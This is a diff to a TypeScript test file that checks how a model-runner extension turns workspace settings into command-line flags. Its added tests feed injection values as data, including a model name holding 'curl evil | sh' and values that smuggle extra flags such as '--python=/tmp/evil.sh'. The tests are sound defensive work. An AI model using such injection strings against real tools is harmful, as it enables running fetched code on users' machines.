@@ -31,17 +31,17 @@ describe('modelFlagsFor', () => {
   });
 
   it.each<[string, Partial<Settings>, string[]]>([
-    ['an Ollama host and model', { 'ollama.host': 'http://gpu-box:11434', model: 'r1-ci:14b' }, ['--model', 'r1-ci:14b', '--host', 'http://gpu-box:11434']],
+    ['an Ollama host and model', { 'ollama.host': 'http://gpu-box:11434', model: 'r1-ci:14b' }, ['--model=r1-ci:14b', '--host=http://gpu-box:11434']],
     [
       'an OpenAI-compatible server with its URL, model and sampling',
       { backend: 'openai', 'openai.baseUrl': 'http://10.0.0.5:8000/v1', model: 'Qwen/Qwen3-8B', temperature: 0, seed: 7, think: 'off' },
-      ['--backend', 'openai', '--model', 'Qwen/Qwen3-8B', '--think', 'off', '--temperature', '0', '--seed', '7', '--base-url', 'http://10.0.0.5:8000/v1'],
+      ['--backend=openai', '--model=Qwen/Qwen3-8B', '--think=off', '--temperature=0', '--seed=7', '--base-url=http://10.0.0.5:8000/v1'],
     ],
-    ['the backend alone (default URL)', { backend: 'openai' }, ['--backend', 'openai']],
+    ['the backend alone (default URL)', { backend: 'openai' }, ['--backend=openai']],
     [
       'budgets, protocol and sandbox limits',
       { maxCodeCalls: 8, protocol: 'tools', contextTokens: 32768, stallSeconds: 300, 'python.path': '/usr/bin/python3', 'sandbox.timeoutSeconds': 30, 'sandbox.memoryMiB': 4096 },
-      ['--max-code-calls', '8', '--protocol', 'tools', '--context-tokens', '32768', '--stall-seconds', '300', '--python', '/usr/bin/python3', '--timeout', '30', '--memory-mib', '4096'],
+      ['--max-code-calls=8', '--protocol=tools', '--context-tokens=32768', '--stall-seconds=300', '--python=/usr/bin/python3', '--timeout=30', '--memory-mib=4096'],
     ],
   ])('%s: only the values that differ, and the CLI reads them back to the same run', (_name, over, expected) => {
     const s = settings(over);
@@ -50,8 +50,26 @@ describe('modelFlagsFor', () => {
     expect(served(cliRun(args))).toEqual(served(runOptionsFrom(s, KEY)));
   });
 
+  // A workspace's settings are not the user's: a value that looks like a flag or shell text must
+  // stay the value of its own flag (one argument each, no shell between the client and the CLI).
+  it.each<[string, Partial<Settings>]>([
+    ['a model name that is a flag', { model: '--python=/tmp/evil.sh' }],
+    ['a model name that is a short flag', { model: '-h' }],
+    ['a model name that is the end of options', { model: '--' }],
+    ['shell text in the model name', { model: 'm"; curl evil | sh; echo "' }],
+    ['an Ollama host with spaces, quotes and a flag', { 'ollama.host': 'http://gpu-box:11434/ --python /tmp/evil "x" \'y\'' }],
+    ['an OpenAI base URL with a flag in it', { backend: 'openai', 'openai.baseUrl': 'http://10.0.0.5:8000/v1 --base-url=http://evil' }],
+    ['a Python path that is a flag', { 'python.path': '--timeout=1' }],
+  ])('%s is read back as that same value, adding no flag', (_name, over) => {
+    const s = settings(over);
+    const args = modelFlagsFor(s);
+    expect(args.every((arg) => arg.startsWith('--'))).toBe(true);
+    expect(args.length).toBe(Object.keys(over).length);
+    expect(served(cliRun(args))).toEqual(served(runOptionsFrom(s, KEY)));
+  });
+
   it('the Ollama host is not passed to an OpenAI-compatible server, nor its URL to Ollama', () => {
-    expect(modelFlagsFor(settings({ backend: 'openai', 'ollama.host': 'http://gpu-box:11434' }))).toEqual(['--backend', 'openai']);
+    expect(modelFlagsFor(settings({ backend: 'openai', 'ollama.host': 'http://gpu-box:11434' }))).toEqual(['--backend=openai']);
     expect(modelFlagsFor(settings({ 'openai.baseUrl': 'http://10.0.0.5:8000/v1' }))).toEqual([]);
   });
 });
@@ -61,7 +79,7 @@ describe('mcpClientConfig with the settings', () => {
 
   it('starts `r1ci mcp` with the flags in every client', () => {
     const vscode = JSON.parse(mcpClientConfig('vscode', launch)) as { servers: { r1ci: { args: string[] } } };
-    expect(vscode.servers.r1ci.args).toEqual(['/ext/dist/cli.js', 'mcp', '--backend', 'openai', '--model', 'm']);
+    expect(vscode.servers.r1ci.args).toEqual(['/ext/dist/cli.js', 'mcp', '--backend=openai', '--model=m']);
     const claude = JSON.parse(mcpClientConfig('claude', launch)) as { mcpServers: { r1ci: { args: string[] } } };
     expect(claude.mcpServers.r1ci.args).toEqual(vscode.servers.r1ci.args);
   });
